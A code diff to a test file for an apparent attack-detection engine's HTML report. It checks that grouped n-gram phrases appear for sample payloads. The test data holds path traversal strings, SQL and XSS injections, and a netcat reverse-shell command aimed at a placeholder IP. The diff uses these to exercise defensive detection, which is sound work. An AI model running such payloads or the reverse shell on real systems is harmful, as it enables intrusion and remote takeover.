@@ -73,10 +73,10 @@ describe('HTML report', () => {
     const grouped = groupPhrases([c('chars "\' o"', 0.5), c('chars " or"', 0.4), c('chars "or "', 0.3), c('token "union"', 0.2), c('chars "zz"', 0.1)], "1' or 1=1");
     expect(grouped.map((g) => g.feature)).toEqual(['phrase "\' or " (3 n-grams)', 'token "union"', 'chars "zz"']);
     expect(grouped[0].contribution).toBeCloseTo(1.2);
-    // A payload whose top supporting features include overlapping n-grams under the shipped
-    // model (for the UNION fixture it now leans on the SQL detectors instead).
-    const ev = attackEvidence('traversal-session', '../../../etc/passwd');
-    const html = renderHtmlReport(ev, engine.analyze(ev));
-    expect(html).toContain('phrase &#34;..&#34; (2 n-grams)');
+    // Under the shipped model: which payload's top supporting features overlap depends on the
+    // training run, so some traversal and injection payload must show a grouped phrase.
+    const payloads = ['../../../etc/passwd', '..%2f..%2f..%2fwindows/win.ini', "1' or '1'='1", '<svg/onload=alert(1)>', '; nc -e /bin/sh 10.0.0.1 4444'];
+    const phrases = payloads.flatMap((p) => renderHtmlReport(attackEvidence('phrase-session', p), engine.analyze(attackEvidence('phrase-session', p))).match(/phrase &#34;[^<]*?&#34; \(\d+ n-grams\)/g) ?? []);
+    expect(phrases.length).toBeGreaterThan(0);
   });
 });
